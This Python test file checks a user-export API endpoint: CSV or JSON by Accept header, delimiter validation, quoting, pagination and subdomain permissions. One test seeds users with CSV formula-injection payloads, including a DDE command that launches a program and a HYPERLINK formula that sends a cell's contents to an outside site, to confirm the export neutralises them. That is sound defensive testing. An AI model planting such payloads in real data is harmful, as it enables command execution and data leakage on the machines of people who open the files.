"""users_export: JSON for who takes nothing else, as the generated client; CSV for everybody else."""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import quote

import pytest
from opendatasoft_automation import User

from opendatasoft import scene
from opendatasoft.client import Ods, assert_refused, email, in_groups, names, refused, unique
from support import web

EXPORT = pytest.mark.conformance(operation="users_export", status=200)
FORBIDDEN = pytest.mark.conformance(operation="users_export", status=403)
HEADER = ["username", "last_name", "first_name", "email", "date_joined", "last_seen", "groups", "permissions"]
DATE = r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d(\.\d{1,6})?\+00:00"
PATH = "/users/export/"


def table(answer: web.Answer, delimiter: str = ",") -> list[list[str]]:
    assert (answer.status, answer.media_type) == (200, "text/csv"), f"{answer.status} {answer.headers} {answer.text[:500]}"
    assert "charset=utf-8" in answer.headers["content-type"].lower().replace(" ", "")
    rows = list(csv.reader(io.StringIO(answer.text, newline=""), delimiter=delimiter, strict=True))
    assert rows[0] == HEADER
    assert {len(row) for row in rows} == {len(HEADER)}
    return rows[1:]


def row_of(answer: web.Answer, username: str, delimiter: str = ",") -> dict[str, str]:
    (row,) = [row for row in table(answer, delimiter) if row[0] == username]
    return dict(zip(HEADER, row, strict=True))


@pytest.fixture(scope="module")
def louise(ods: Ods) -> User:
    """Somebody in two groups, one of whose titles has every delimiter in it."""
    groups = [ods.group(f"{unique()}, designers"), ods.group(f'{unique()} "data" | publishers')]
    return ods.person(first_name='Louise, "Lou"', last_name="Dätä", permissions=["edit_page", "create_page"], groups=in_groups(*(group.uid for group in groups)))


@EXPORT
def test_the_clients_own_call(ods: Ods, louise: User) -> None:
    """It accepts JSON alone and expects users; all of them, not a page."""
    exported = ods.users.users_export()
    assert len(exported) == ods.users.get_users(limit=0).total_count
    assert [user for user in exported if user.username == louise.username] == [ods.users.get_user(louise.username)]


@EXPORT
def test_csv_as_the_vendors_example_shows_it(ods: Ods, louise: User) -> None:
    row = row_of(ods.raw("GET", PATH, Accept="*/*"), louise.username)
    assert (row["last_name"], row["first_name"], row["email"]) == ("Dätä", 'Louise, "Lou"', louise.email)
    assert re.fullmatch(DATE, row["date_joined"]), row
    assert row["last_seen"] == ""
    assert row["permissions"] == "create_page;edit_page"
    titles = {ods.groups.retrieve_user_group(group.uid).title for group in louise.groups.actual_instance}
    assert set(row["groups"].split(";")) == titles and len(titles) == 2


@EXPORT
@pytest.mark.parametrize("accept", [None, "*/*", "text/csv", "text/*", "text/csv, application/json", "application/json, text/csv", "text/html,application/xhtml+xml,*/*;q=0.8", "application/json, */*"])
def test_csv_for_whoever_takes_more_than_json(ods: Ods, louise: User, accept: str | None) -> None:
    assert louise.username in [row[0] for row in table(ods.raw("GET", PATH, Accept=accept))]


@EXPORT
@pytest.mark.parametrize("accept", ["application/json", "Application/JSON", "application/json;q=0.9", "application/json; charset=utf-8"])
def test_json_for_who_takes_nothing_else(ods: Ods, louise: User, accept: str) -> None:
    answer = ods.raw("GET", PATH, Accept=accept)
    assert (answer.status, answer.media_type) == (200, "application/json")
    assert louise.username in [user["username"] for user in answer.json]


@EXPORT
def test_everybody_in_one_file(ods: Ods) -> None:
    """More than a page holds by default."""
    word = unique("many")
    ods.invite(*(User(email=email(f"{word}{number}")) for number in range(30)))
    rows = table(ods.raw("GET", PATH))
    assert len([row for row in rows if row[0].startswith(word)]) == 30
    assert sorted(row[0] for row in rows) == sorted(names(ods.users.get_users(limit=1000).results))


@EXPORT
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|", ":", "^", "é"])
def test_any_one_character_separates(ods: Ods, louise: User, delimiter: str) -> None:
    row = row_of(ods.raw("GET", f"{PATH}?delimiter={quote(delimiter)}"), louise.username, delimiter)
    assert (row["first_name"], row["permissions"]) == ('Louise, "Lou"', "create_page;edit_page")
    assert len(row["groups"].split(";")) == 2


@EXPORT
def test_what_the_delimiter_is_part_of_is_quoted(ods: Ods, louise: User) -> None:
    """So that ";" can separate columns although it joins groups and permissions in one cell."""
    semicolons = ods.raw("GET", f"{PATH}?delimiter=%3B").text
    assert '"create_page;edit_page"' in semicolons
    commas = ods.raw("GET", PATH).text
    assert ",create_page;edit_page" in commas and '"Louise, ""Lou"""' in commas


@EXPORT
def test_the_client_with_a_delimiter(ods: Ods, louise: User) -> None:
    """It is there for CSV and changes nothing in JSON."""
    assert louise.username in names(ods.users.users_export(delimiter=";"))
    raw = ods.users.users_export_without_preload_content(delimiter=";")
    assert raw.status == 200 and raw.headers["content-type"].startswith("application/json")


@pytest.mark.conformance(operation="users_export", status=400)
@pytest.mark.parametrize("delimiter", ["", ",,", ";;", "ab", '"', "\n", "\r", "\0", "%ff"])
@pytest.mark.parametrize("accept", ["text/csv", "application/json"])
def test_what_cannot_separate(ods: Ods, delimiter: str, accept: str) -> None:
    given = delimiter if delimiter.startswith("%") else quote(delimiter)
    assert_refused(ods.raw("GET", f"{PATH}?delimiter={given}", Accept=accept))


@pytest.mark.conformance(operation="users_export", status=400)
def test_what_cannot_separate_by_the_client(ods: Ods) -> None:
    with refused(400, "validation_error", "delimiter"):
        ods.users.users_export_with_http_info(delimiter='"')


FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://example.com/?x="&A1)', "=cmd|' /C calc'!A0", "＝1+1"]


@EXPORT
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_cell_is_a_formula(ods: Ods, delimiter: str) -> None:
    """A spreadsheet runs what begins like one, also behind a quote; what was written is still to be read in it."""
    word = unique("formula")
    group = ods.group(f"=1+1 {word}")
    ods.invite(*(User(email=email(f"{word}{number}"), first_name=formula, last_name=formula, groups=in_groups(group.uid)) for number, formula in enumerate(FORMULAS)))
    rows = [row for row in table(ods.raw("GET", f"{PATH}?delimiter={quote(delimiter)}"), delimiter) if row[0].startswith(word)]
    assert len(rows) == len(FORMULAS)
    for row in rows:
        formula = FORMULAS[int(row[0].removeprefix(word))]
        for cell, written in ((row[1], formula), (row[2], formula), (row[6], group.title)):
            assert cell.endswith(written) and cell[0] not in "=+-@\t\r", f"{cell!r} is a formula"
    assert {user.first_name for user in ods.users.users_export() if user.username.startswith(word)} == set(FORMULAS)


@EXPORT
@pytest.mark.parametrize("sign", "+-=")
def test_no_address_is_a_formula(ods: Ods, sign: str) -> None:
    """These are letters of an address like any other."""
    address = email(f"{sign}{unique()}")
    user = ods.invite(User(email=address))[0]
    (row,) = [row for row in table(ods.raw("GET", PATH)) if row[3].endswith(address)]
    assert row[3][0] not in "=+-@" and row[0][0] not in "=+-@" and row[0].endswith(user.username)


@FORBIDDEN
@EXPORT
def test_subdomains_need_their_own_permission(ods: Ods) -> None:
    """`manage_subdomains`, of the key as well as of its owner, who has it as an administrator."""
    owner = scene.account_create(ods.server, permissions=["edit_domain", "manage_subdomains"])
    without = ods.with_key(scene.key_create(ods.server, owner, "edit_domain"))
    with_it = ods.with_key(scene.key_create(ods.server, owner, "edit_domain", "manage_subdomains"))
    with refused(403, "forbidden"):
        without.users.users_export(subdomains="shop")
    assert_refused(without.raw("GET", f"{PATH}?subdomains=shop", Accept="text/csv"), 403)
    assert owner.username in names(without.users.users_export())
    assert owner.username in names(with_it.users.users_export(subdomains="shop"))
    assert owner.username in [row[0] for row in table(with_it.raw("GET", f"{PATH}?subdomains=shop"))]
    # An administrator may everything: the key alone is what limits it.
    lesser, _ = scene.administrator(ods.server)
    named = ods.with_key(scene.key_create(ods.server, lesser, "edit_domain", "manage_subdomains"))
    assert lesser.username in names(named.users.users_export(subdomains="shop"))
